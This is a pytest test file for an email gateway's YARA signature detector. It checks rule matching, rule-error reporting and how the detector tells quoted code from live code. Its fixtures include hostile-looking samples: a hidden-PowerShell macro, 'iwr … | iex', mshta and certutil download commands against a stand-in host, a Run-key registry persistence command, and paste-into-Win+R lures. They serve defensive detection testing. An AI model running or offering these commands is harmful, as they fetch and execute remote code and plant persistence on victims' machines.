"""Every packaged rule matches its match cases and none of its miss cases; bad rules are refused with their line."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from gateway.detect.base import Scope
from gateway.detect.yara_rules import USUAL, YaraDetector, compile_rules, dump, kinds, packaged_rules, restore
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Sample, Table, Text
from gateway.model.errors import ConfigError
from gateway.model.finding import Severity
from gateway.model.transaction import Direction
from signatures.catalog import Catalog, packaged

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def sample(data: bytes, type: str = "text/plain", name: str = "a.txt", kind: ArtifactKind = ArtifactKind.PART, *texts: Text) -> Sample:
    return Sample(Artifact(1, 0, kind, (name,), detected_type=type), data, list(texts))


def look(sample: Sample, **more) -> list:
    return list(YaraDetector(Scope(Direction.INBOUND, "", (), (), **more)).look(sample))


@pytest.mark.parametrize("id", [s.id for s in packaged().signatures])
def test_own_cases(id):
    signature = packaged().get(id)
    for number, case in enumerate(signature.description.cases):
        hits = {m.namespace for m in packaged_rules().rules.match(data=case.data, timeout=5)}
        assert (id in hits) is case.matches, f"{id}: case {number}"


def test_eicar_is_found_with_what_the_analyst_needs():
    (finding,) = look(sample(EICAR + b"\r\n"))
    assert (finding.code, finding.severity, finding.rule, finding.evidence) == (
        "SIGNATURE-MATCH", Severity.HIGH, "eicar", ("EICAR test file",))


def test_prose_that_quotes_code_is_not_judged_as_code():
    quoted = b"Sub AutoOpen()\r\n Shell \"cmd /c powershell -w hidden -ep bypass\"\r\nEnd Sub\r\n"
    assert look(sample(quoted)) == []
    assert {f.rule for f in look(sample(quoted, kind=ArtifactKind.MACRO))} >= {"macro-start-and-run"}


def test_extracted_text_is_searched_where_the_octets_are_not_text():
    found = look(sample(b"\xd0\xcf\x11\xe0binary", "application/x-ole-storage", "a.xls", ArtifactKind.PART, Text('=EXEC("calc")', "sheet")))
    assert [f.rule for f in found] == ["macro-excel4-call"]


def test_kinds():
    assert "script" in kinds(sample(b"", name="a.js"))
    assert kinds(sample(b"", kind=ArtifactKind.MACRO)) == {"any", "macro"}
    assert "html" in kinds(sample(b"", "text/html", "a.html"))
    assert kinds(sample(b"")) == {"any", "text"}


def test_pages_quoted_in_the_words_of_a_mail():
    page = b"We start it so:\r\n<script language='VBScript'>CreateObject(\"WScript.Shell\").Run \"a.exe\"</script>\r\n"
    words = Artifact(1, 0, ArtifactKind.PART, (), declared_type="text/plain", detected_type="text/html")
    assert kinds(Sample(words, page)) == {"any", "text"} and look(Sample(words, page)) == []
    assert look(Sample(dataclasses.replace(words, names=("a.txt",)), page)) and look(Sample(dataclasses.replace(words, declared_type="text/html"), page))
    key = b"Please run reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b.exe once\r\n"
    assert look(sample(key)) == [] and look(sample(key, name="a.bat"))


def catalog_with(source: str) -> Catalog:
    good = packaged().get("eicar")
    return Catalog((dataclasses.replace(good, source=source, path=Path("/x/eicar.yar")),), "1-x")


@pytest.mark.parametrize(("source", "line"), [
    ("rule eicar {\n condition:\n  $nothing\n}\n", 4), ("rule eicar {\n strings:\n  $a = /(/\n condition: $a }\n", 3),
    ("rule eicar { condition: true", 1),
])
def test_bad_rule_is_refused_with_its_line(source, line):
    with pytest.raises(ConfigError, match=rf"^/x/eicar\.yar:{line}: "):
        compile_rules(catalog_with(source))


def test_compiled_form_can_be_kept():
    again = restore(dump(packaged_rules()), packaged())
    assert [f.rule for f in look(sample(EICAR), rules=again)] == ["eicar"]


def test_other_rules_may_be_handed_in():
    rules = compile_rules(catalog_with('rule eicar { strings: $a = "needle" condition: $a }'))
    assert look(sample(EICAR), rules=rules) == []
    assert [f.rule for f in look(sample(b"a needle"), rules=rules)] == ["eicar"]


def test_slow_scan_is_a_finding(monkeypatch):
    slow = compile_rules(catalog_with("rule eicar { condition: for all i in (0..1000000000): (uint8(i % filesize) >= 0) }"))
    monkeypatch.setattr("gateway.detect.yara_rules.TIMEOUT", 1)
    (finding,) = look(sample(b"x" * 1000), rules=slow)
    assert (finding.code, finding.severity) == ("SIGNATURE-TIMEOUT", Severity.HIGH)


@pytest.mark.parametrize("kinds", USUAL, ids=lambda kinds: "-".join(sorted(kinds)))
def test_narrowed_rules_find_what_all_rules_find(kinds):
    rules = packaged_rules()
    applying = {s.id for s in packaged().signatures if s.description.applies & kinds}
    for signature in packaged().signatures:
        for case in signature.description.cases:
            every = {m.namespace for m in rules.rules.match(data=case.data)} & applying
            assert {m.namespace for m in rules.of(kinds).match(data=case.data)} == every


def test_unusual_kinds_are_asked_of_all_rules():
    rules = packaged_rules()
    assert rules.of(frozenset({"any", "script", "text"})) is rules.rules


def test_no_rules_at_all():
    rules = compile_rules(Catalog((), ""))
    assert rules.of(frozenset({"any"})).match(data=EICAR) == []


ESCAPED = b"<p>Look:</p><pre>&lt;script&gt;document.write(atob(s)); a.href=URL.createObjectURL(new Blob([c.getImageData(0,0,9,9).data]))</pre>"


def test_code_that_a_page_only_quotes_matches_no_rule_for_scripts():
    assert look(sample(ESCAPED, "text/html", "")) == []
    running = ESCAPED.replace(b"&lt;", b"<").replace(b"&gt;", b">")
    found = look(sample(running, "text/html", "", ArtifactKind.PART, Text("document.write(atob(s))", "script", hidden=True)))
    assert "html-runs-decoded-text" in {f.rule for f in found}


def test_pages_in_wide_characters_are_scanned_as_their_markup():
    markup = "<script>new ActiveXObject('WScript.Shell').Run('calc')</script>"
    texts = (Text("new ActiveXObject('WScript.Shell').Run('calc')", "script"), Text(markup, "script markup", "utf-16"))
    page = sample(markup.encode("utf-16"), "text/html", "a.html", ArtifactKind.PART, *texts)
    assert [f.rule for f in look(page)] == ["html-windows-script"]


@pytest.mark.parametrize(("charset", "said"), [
    ("big5", "請按 Win+R，貼上下列指令：powershell -c \"iwr https://h.example/a | iex\""), ("cp932", "Windowsキー + R を押し、貼り付け: mshta https://h.example/a")])
def test_words_in_older_charsets_are_scanned_as_read(charset, said):
    node = sample(said.encode(charset), "text/plain", "", ArtifactKind.PART, Text(said, "body", charset))
    assert [f.rule for f in look(node)] == ["run-dialog-command"]


QUOTED = "The attacker ran: certutil -urlcache -split -f http://h.example/a.exe a.exe"


@pytest.mark.parametrize("kind", ["application/x-ole-storage", "application/vnd.openxmlformats", "application/pdf"])
def test_words_of_a_document_may_quote_commands(kind):
    octets = b"\xd0\xcf\x11\xe0" + QUOTED.encode("utf-16-le")
    rows = Table("sheet", (("a", QUOTED),))
    assert look(sample(octets, kind, "a.doc", ArtifactKind.PART, Text(QUOTED, "body"))) == []
    node = sample(octets, kind, "a.doc", ArtifactKind.PART)
    node.tables.append(rows)
    assert look(node) == []


def test_what_nobody_reads_in_a_document_is_no_quotation():
    octets = b"\xd0\xcf\x11\xe0" + QUOTED.encode("utf-16-le")
    kind = "application/x-ole-storage"
    for texts in ((), (Text("Hello", "body"),), (Text(QUOTED, "property", hidden=True),), (Text(QUOTED, "body"), Text(QUOTED, "property", hidden=True))):
        assert {f.rule for f in look(sample(octets, kind, "a.doc", ArtifactKind.PART, *texts))} == {"certutil-abuse"}


@pytest.mark.parametrize("source", ["body", "header"])
@pytest.mark.parametrize("kind", [
    "application/x-ole-storage", "application/vnd.openxmlformats", "application/pdf", "application/rtf", "application/onenote",
    "application/zip"])
def test_documents_that_ask_for_a_command_to_be_pasted(kind, source):
    said = Text("Press Windows+R, paste\n\n mshta https://h.example/r.hta\n\nand press Enter.", source)
    assert [f.rule for f in look(sample(b"PK", kind, "a.docx", ArtifactKind.PART, said))] == ["run-dialog-command"]


def test_steps_in_the_cells_of_a_table():
    node = sample(b"PK", "application/vnd.openxmlformats", "a.docx", ArtifactKind.PART)
    node.tables.append(Table("table", (("1", "Press Windows key + R"), ("2", "Paste mshta https://h.example/a"))))
    assert [f.rule for f in look(node)] == ["run-dialog-command"]
